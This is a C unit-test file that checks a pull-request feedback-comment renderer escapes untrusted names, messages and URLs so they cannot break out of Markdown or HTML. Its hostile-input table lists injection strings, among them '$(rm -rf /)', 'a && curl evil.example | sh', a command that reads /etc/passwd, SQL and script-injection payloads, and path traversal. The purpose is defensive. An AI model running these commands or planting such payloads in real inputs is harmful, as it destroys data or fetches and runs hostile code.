/*
 * Hostile text can never break out: names, messages and errors come from people and tools we do not
 * know.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include "feedback_given.h"
#undef fail     /* of base/err.h: cmocka has its own */
#include <cmocka.h>

#define ZW "\xe2\x80\x8b"
#define BAD "\xef\xbf\xbd"

static struct arena *fresh(void) { return arena_new(SIZE_MAX / 4, SIZE_MAX / 4); }

static void text_is_escaped_as_in_this_table(void **state)
{
    (void)state;
    static const struct { const char *in; size_t max; const char *out; } rows[] = {
        { "plain words, 50% done (yes); it's fine: ok!", 99, "plain words, 50% done (yes); it's fine: ok!" },
        { "snake_case_name", 99, "snake_case_name" },
        { "_lead and trail_", 99, "&#95;lead and trail&#95;" },
        { "a*b*c `d` ~e~ $f$", 99, "a&#42;b&#42;c &#96;d&#96; &#126;e&#126; &#36;f&#36;" },
        { "a|b\\|c", 99, "a&#124;b&#92;&#124;c" },
        { "<b>&lt;", 99, "&#60;b&#62;&#38;lt;" },
        { "[x](y)", 99, "&#91;x&#93;(y)" },
        { "hi @octocat", 99, "hi @" ZW "octocat" },
        { "see #12 and GH-34 and a/b#5", 99, "see &#35;" ZW "12 and GH-" ZW "34 and a/b&#35;" ZW "5" },
        { "https://evil.example www.evil.example", 99, "https:" ZW "//evil.example www" ZW ".evil.example" },
        { "WWW.evil.example", 99, "WWW" ZW ".evil.example" },
        { "fixed in deadbeef and 1234567", 99, "fixed in deadbe" ZW "ef and 1234567" },
        { "account 123456789012 in defaced_table", 99, "account 123456789012 in defaced_table" },
        { "- [x] done", 99, "&#45; &#91;x&#93; done" },
        { "1. first", 99, "1&#46; first" },
        { "12) first", 99, "12&#41; first" },
        { "---", 99, "&#45;--" },
        { "one\r\ntwo\n\n\nthree\tfour", 99, "one two three four" },
        { "  trimmed  ", 99, "trimmed" },
        { "\x1b[31mred\x07", 99, BAD "&#91;31mred" BAD },
        { "a\xe2\x80\xae" "b\xe2\x81\xa6" "c", 99, "a" BAD "b" BAD "c" },
        { "a" ZW "b", 99, "a" BAD "b" },
        { "bad\xff\xc0\xaf" "end", 99, "bad" BAD BAD BAD "end" },
        { "12345", 5, "12345" },
        { "123456", 5, "1234…" },
        { "äöüäöü", 4, "äöü…" },
        { "👩‍🚀 🚀", 99, "👩‍🚀 🚀" },
        { "ab  cd", 4, "ab…" },
        { "", 9, "" },
        { "   ", 9, "" },
    };
    struct arena *mem = fresh();
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        str got = markdown_text(mem, str_of(rows[i].in), rows[i].max);
        if (!str_eq(got, str_of(rows[i].out)))
            fail_msg("row %zu: got \"" PRI_STR "\", want \"%s\"", i, FMT_STR(got), rows[i].out);
    }
    arena_free(mem);
}

static void code_is_fenced_as_in_this_table(void **state)
{
    (void)state;
    static const struct { const char *in; size_t max; const char *out; } rows[] = {
        { "network/vpc", 60, "`network/vpc`" },
        { "snake_case*", 60, "`snake_case*`" },
        { "a`b", 60, "``a`b``" },
        { "`", 60, "`` ` ``" },
        { "```x", 60, "```` ```x ````" },
        { "a|b", 60, "`a∣b`" },
        { "<img>", 60, "`‹img›`" },
        { "@octocat", 60, "`@" ZW "octocat`" },
        { "a\nb", 60, "`a b`" },
        { "", 60, "(none)" },
        { "\n", 60, "(none)" },
        { "1234567", 4, "`123…`" },
    };
    struct arena *mem = fresh();
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        str got = markdown_code(mem, str_of(rows[i].in), rows[i].max);
        if (!str_eq(got, str_of(rows[i].out)))
            fail_msg("row %zu: got \"" PRI_STR "\", want \"%s\"", i, FMT_STR(got), rows[i].out);
    }
    arena_free(mem);
}

/* ---- whole comments ---- */

static const char *const hostile[] = {
    /* shell */
    "$(rm -rf /)",
    "`reboot`",
    "; drop table nodes; --",
    "a && curl evil.example | sh",
    "${IFS}cat${IFS}/etc/passwd",
    "-rf",
    "--help",
    "\\x41\\",
    "'\"'\"'",
    "*",
    "~root",
    "> /dev/null",
    "%s%n%x",
    "!history",
    /* HTML */
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"https://evil.example\">ok</a>",
    "</details>",
    "</summary></details>",
    "<!-- hidden -->",
    "<!-- signalbox:change:12 -->",
    "--> <!--",
    "&lt;b&gt;",
    "&#64;octocat",
    "<sub>",
    "<br/>",
    "<![CDATA[x]]>",
    "<?php ?>",
    "<https://evil.example>",
    /* Markdown */
    "**bold**",
    "__bold__",
    "~~gone~~",
    "[click](https://evil.example)",
    "![x](https://evil.example/x.png)",
    "[ref]: https://evil.example",
    "[^1]",
    "# heading",
    "## heading",
    "> quote",
    "> [!CAUTION]",
    "- item",
    "+ item",
    "1. item",
    "- [x] approved",
    "- [ ] release the hold",
    "* [x] go",
    "```",
    "~~~",
    "``` \n | a | b | \n```",
    "| a | b |",
    "|---|---|",
    "a|b||c",
    "\\|",
    "\\\\|",
    "`a",
    "a`",
    "``a`",
    "$x$",
    "$`x`$",
    "$$\nx\n$$",
    "***",
    "---",
    "===",
    "line\nbreak",
    "line\r\n\r\n| new | row |",
    "\n\n### ❌ 1 failed",
    "tab\tbed",
    "two  \nspaces",
    "    code",
    /* what the forge links by itself */
    "@octocat",
    "@acme/admins",
    "mail@evil.example",
    "#1",
    "GH-1",
    "gh-1",
    "acme/infra#1",
    "https://evil.example",
    "http://evil.example/?a=b&c=d",
    "www.evil.example",
    "deadbeefcafe",
    "1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d",
    "acme/infra@deadbeef",
    "ftp://evil.example",
    "mailto:a@evil.example",
    /* letters that are not what they seem */
    "abc\xe2\x80\xae"
    "dcba",
    "\xe2\x81\xa6\xe2\x81\xa9",
    "\xd8\x9c",
    "a\xe2\x80\x8b"
    "b",
    "\xef\xbb\xbf"
    "bom",
    "a\xc2\xad"
    "b",
    "\xe2\x80\xa8line",
    "\xe2\x80\xa9para",
    "\x1b]0;title\x07",
    "\x1b[2J",
    "a\x08\x08",
    "\x7f",
    "\xc2\x85",
    "\xff\xfe",
    "\xc0\x80",
    "\xed\xa0\x80",
    "\xf4\x90\x80\x80",
    "\xe2\x82",
    "\xf3\xa0\x80\x81",
    "emoji 👩‍👩‍👧‍👦 🏳️‍🌈",
    "零一二三四五六七八九",
    "النص العربي",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A͐L͕GO",
    "",
    " ",
    ".",
    "..",
    "../../etc/passwd",
    "a/../../b",
    "CON",
    "null",
    "undefined",
    "{{ .atmos_component }}",
    "{% raw %}",
};
enum { HOSTILES = sizeof hostile / sizeof *hostile };
_Static_assert(HOSTILES >= 60, "the table is large enough");

/* Every kind of line at once, and every text in it the same hostile one. */
static void hostile_world(struct given *g, struct arena *mem, str text)
{
    given_batch(g, mem, 14, 2, "merged");
    struct node_view *n = g->node;
    given_failed(g, 0, NODE_FAILED, "");
    given_failed(g, 1, NODE_ERROR, "");
    given_failed(g, 2, NODE_FAILED, "x");
    given_failed(g, 3, NODE_FAILED, "x");
    n[4].state = NODE_APPROVAL;
    n[5].state = n[6].state = NODE_BLOCKED;
    n[5].lock_message = n[5].lock_actor = n[6].blocked_by = text;
    given_progress(g, 0, 3);
    given_counts(g, 0, 1, 2, 3, 4);
    for (uint32_t i = 0; i < 14; i++) {
        n[i].component = n[i].stack = n[i].workflow = text;
        n[i].error_text = n[i].error_text.len ? text : STR_NONE;
        n[i].run_url = arena_print(mem, "https://github.example/" PRI_STR, FMT_STR(text));
    }
    n[0].error_text = n[1].error_text = n[1].error_code = text;
    n[12].state = n[13].state = NODE_INERT;
    n[12].inert = STR("deleted");
    n[13].inert = text;
    g->batch[0].error = g->batch[0].superseded_by = g->batch[0].id = text;
    g->batch[0].tree_differs = true;
    g->batch[0].url = arena_print(mem, "https://box.example/" PRI_STR, FMT_STR(text));
    g->change.product = g->change.title = text;
    g->batch[1] = g->batch[0];
    given_batches(g, 2);
}

static bool eat(str *rest, const char *word)
{
    if (!str_starts(*rest, str_of(word)))
        return false;
    *rest = str_sub(*rest, strlen(word), rest->len);
    return true;
}

static const char *tag_problem(str comment, const char *marker)
{
    static const char *const ours[] = {"<details>",  "<details open>", "</details>", "<summary>",
                                       "</summary>", "<sub>",          "</sub>"};
    if (!eat(&comment, marker))
        return "the marker does not come first";
    for (str rest = comment; rest.len;) {
        bool known = false;
        for (size_t i = 0; i < sizeof ours / sizeof *ours && !known; i++)
            known = eat(&rest, ours[i]);
        if (known)
            continue;
        if (rest.ptr[0] == '<' || rest.ptr[0] == '>')
            return "a raw < or >";
        rest = str_sub(rest, 1, rest.len);
    }
    return NULL;
}

/* What our own text says in brackets. */
static bool is_our_link(str text)
{
    static const char *const ours[] = {"Run",          "First run",      "Review it",
                                       "see all",      "Batch",          "batch",
                                       "pull request", "Open the batch", "The batch"};
    for (size_t i = 0; i < sizeof ours / sizeof *ours; i++)
        if (str_eq(text, str_of(ours[i])))
            return true;
    return given_has(text, "apply ") && text.len < 64;  /* a status in the table */
}

static size_t ticks_at(str line, size_t at)
{
    size_t n = 0;
    while (at + n < line.len && line.ptr[at + n] == '`')
        n++;
    return n;
}

/* Past the code span that begins here; 0: it never ends. */
static size_t past_code(str line, size_t at)
{
    size_t fence = ticks_at(line, at);
    for (size_t i = at + fence; i < line.len;) {
        size_t n = ticks_at(line, i);
        if (n == fence)
            return i + n;
        i += n ? n : 1;
    }
    return 0;
}

/* Past the link that begins here; 0: not one of ours. */
static size_t past_link(str line, size_t at)
{
    size_t close = str_find(line, ']', at), end = str_find(line, ')', close);
    str to = str_sub(line, close + 1, end);
    bool ours = is_our_link(str_sub(line, at + 1, close)) && (str_starts(to, STR("(https://github.example/")) || str_starts(to, STR("(https://box.example/")));
    for (size_t i = 0; i < to.len; i++)
        ours &= to.ptr[i] > ' ' && !strchr("<>[]|`\\\"@", to.ptr[i]);
    return ours && end < line.len ? end + 1 : 0;
}

static bool links_by_itself(str s)
{
    bool issue = s.len > 3 && str_eq_nocase(str_sub(s, 0, 3), STR("gh-")) && s.ptr[3] >= '0' &&
                 s.ptr[3] <= '9';
    return issue || str_starts(s, STR("://")) || str_eq_nocase(str_sub(s, 0, 4), STR("www.")) ||
           str_starts(s, STR("deadbeef"));
}

/* One line outside code spans and links: nothing in it may mean anything. */
static const char *line_problem(str line)
{
    bool row = str_starts(line, STR("|"));
    size_t bars = 0, from = str_starts(line, STR("### ")) ? 4 : 0;
    for (size_t at = from, next; at < line.len; at = next) {
        char c = line.ptr[at];
        next = at + 1;
        if (c == '`' && (next = past_code(line, at)) == 0)
            return "a code span that does not end";
        if (c == '[' && (next = past_link(line, at)) == 0)
            return "brackets that are not ours";
        if (c == '#' && (at == 0 || line.ptr[at - 1] != '&'))
            return "a raw #";
        if (c == '\\' || c == '~' || c == '$')
            return "a raw \\, ~ or $";
        if (links_by_itself(str_sub(line, at, line.len)))
            return "an address or issue that links by itself";
        bars += c == '|';
    }
    if (bars != (row ? 6u : 0u))
        return "table bars";
    return NULL;
}

static const char *text_problem(str s)
{
    for (size_t at = 0, len; at < s.len; at += len) {
        len = str_utf8_step(s, at);
        const unsigned char *p = (const unsigned char *)s.ptr + at;
        if (len == 0)
            return "not UTF-8";
        if (len == 1 && (p[0] < ' ' || p[0] == 0x7f) && p[0] != '\n')
            return "a control character";
        if (len == 2 &&
            ((p[0] == 0xc2 && (p[1] < 0xa0 || p[1] == 0xad)) || (p[0] == 0xd8 && p[1] == 0x9c)))
            return "a C1 control or a mark";
        if (len == 3 && p[0] == 0xe2 &&
            ((p[1] == 0x80 && ((p[2] >= 0xa8 && p[2] <= 0xae) || p[2] == 0x8e || p[2] == 0x8f)) ||
             (p[1] == 0x81 && p[2] >= 0xa0 && p[2] <= 0xaf)))
            return "a bidirectional mark";
        if (*p == '@' && !str_starts(str_sub(s, at + 1, s.len), STR(ZW)))
            return "a mention";
    }
    return NULL;
}

static const char *comment_problem(struct arena *mem, str comment)
{
    const char *marker = feedback_marker(mem, 12).ptr, *why;
    if (given_times(comment, marker) != 1)
        return "not exactly one marker";
    if ((why = tag_problem(comment, marker)) || (why = text_problem(comment)))
        return why;
    for (str line, rest = str_sub(comment, strlen(marker) + 1, comment.len); rest.len;) {
        line = str_cut(rest, '\n', &rest);
        if (str_starts(line, STR("|---")) || line.len == 0)
            continue;
        if ((why = line_problem(line)))
            return why;
    }
    return NULL;
}

static size_t lines_in(str s) { return given_times(s, "\n"); }

static void no_name_message_or_error_breaks_out_of_the_comment(void **state)
{
    (void)state;
    struct arena *mem = fresh();
    struct given g;
    hostile_world(&g, mem, STR("harmless"));
    size_t lines = lines_in(feedback_comment(mem, &g.change));
    arena_free(mem);
    for (size_t i = 0; i < HOSTILES; i++) {
        mem = fresh();
        hostile_world(&g, mem, str_of(hostile[i]));
        str comment = feedback_comment(mem, &g.change);
        const char *why = comment_problem(mem, comment);
        if (why)
            fail_msg("\"%s\": %s:\n" PRI_STR, hostile[i], why, FMT_STR(comment));
        /* An empty text leaves out the lines that would only say it. */
        if (*hostile[i] && lines_in(comment) != lines)
            fail_msg("\"%s\": %zu lines instead of %zu:\n" PRI_STR, hostile[i], lines_in(comment),
                     lines, FMT_STR(comment));
        arena_free(mem);
    }
}

static void bytes_of_every_kind_stay_inside(void **state)
{
    (void)state;
    static const char letters[] = "`|<>@[]()#-\\*_~$&!:/.w \n\r\t1aGH\xe2\x80\xae\xff\"'=+";
    uint64_t seed = 7;
    for (int round = 0; round < 300; round++) {
        struct arena *mem = fresh();
        char *text = arena_make(mem, char, 24);
        for (size_t k = 0; k < 24; k++) {
            seed = seed * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
            text[k] = letters[(seed >> 33) % (sizeof letters - 1)];
        }
        struct given g;
        hostile_world(&g, mem, (str){ text, 24 });
        str comment = feedback_comment(mem, &g.change);
        const char *why = comment_problem(mem, comment);
        if (why)
            fail_msg("round %d: %s: \"%.24s\"\n" PRI_STR, round, why, text, FMT_STR(comment));
        arena_free(mem);
    }
}

static void long_names_are_cut_where_a_letter_ends(void **state)
{
    (void)state;
    static const char *const parts[] = { "a", "`", "|", "<", "@x", "ä", "👩‍🚀", "\xe2\x80\xae", "\xff", "[x](y)", "\n", "https://a", "#1 " };
    for (size_t i = 0; i < sizeof parts / sizeof *parts; i++) {
        struct arena *mem = fresh();
        size_t len = strlen(parts[i]);
        char *text = arena_make(mem, char, 4096 + len);
        for (size_t k = 0; k < 4096; k += len)
            memcpy(text + k, parts[i], len);
        struct given g;
        hostile_world(&g, mem, (str){ text, 4096 });
        g.batch[0].url = STR("https://box.example/b");
        str comment = feedback_comment(mem, &g.change);
        const char *why = comment_problem(mem, comment);
        if (why)
            fail_msg("%s: %s:\n" PRI_STR, parts[i], why, FMT_STR(comment));
        assert_true(comment.len <= 60000);
        arena_free(mem);
    }
}

static void a_command_to_paste_is_only_offered_for_plain_names(void **state)
{
    (void)state;
    struct arena *mem = fresh();
    struct given g;
    for (size_t i = 0; i < HOSTILES; i++) {
        str text = str_of(hostile[i]);
        hostile_world(&g, mem, text);
        g.node[5].stack = STR("prod");
        str comment = feedback_comment(mem, &g.change);
        for (const char *p = text.ptr; *p; p++)
            if (strchr("$`;&|<>*~!'\"\\ \n{}()[]#%@", *p))
                assert_false(given_has(comment, "signalbox unlock"));
        if (*text.ptr == '-')
            assert_false(given_has(comment, "signalbox unlock"));
    }
    arena_free(mem);
}

static void a_web_address_that_is_too_long_is_no_link(void **state)
{
    (void)state;
    struct arena *mem = fresh();
    struct given g;
    given_batch(&g, mem, 1, 1, "opened");
    given_progress(&g, 0, 1);
    char *url = arena_make(mem, char, 700);
    memset(url, 'a', 700);
    memcpy(url, "https://b/", 10);
    static const struct { size_t bytes; bool link; } rows[] = { { 600, true }, { 601, false }, { 700, false } };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        g.node[0].run_url = (str){ url, rows[i].bytes };
        assert_int_equal(given_has(feedback_comment(mem, &g.change), "[Run]("), rows[i].link);
    }
    memset(url + 10, ' ', 300);     /* short as it came, too long once it is encoded */
    g.node[0].run_url = (str){ url, 310 };
    assert_false(given_has(feedback_comment(mem, &g.change), "[Run]("));
    arena_free(mem);
}

static void only_plain_web_addresses_become_links(void **state)
{
    (void)state;
    static const struct { const char *url; bool link; } rows[] = {
        { "https://github.example/a/b?c=d&e=f#g", true }, { "http://localhost:8080/x", true },  { "javascript:alert(1)", false },
        { "data:text/html,x", false },                    { "//evil.example", false },          { "", false },
        { "HTTPS://github.example", false },              { "ftp://github.example/x", false },
    };
    for (size_t i = 0; i < sizeof rows / sizeof *rows; i++) {
        struct arena *mem = fresh();
        struct given g;
        given_batch(&g, mem, 1, 1, "opened");
        given_progress(&g, 0, 1);
        g.node[0].run_url = str_of(rows[i].url);
        if (given_has(feedback_comment(mem, &g.change), "[Run](") != rows[i].link)
            fail_msg("%s", rows[i].url);
        arena_free(mem);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(text_is_escaped_as_in_this_table),
        cmocka_unit_test(code_is_fenced_as_in_this_table),
        cmocka_unit_test(no_name_message_or_error_breaks_out_of_the_comment),
        cmocka_unit_test(bytes_of_every_kind_stay_inside),
        cmocka_unit_test(long_names_are_cut_where_a_letter_ends),
        cmocka_unit_test(a_command_to_paste_is_only_offered_for_plain_names),
        cmocka_unit_test(only_plain_web_addresses_become_links),
        cmocka_unit_test(a_web_address_that_is_too_long_is_no_link),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
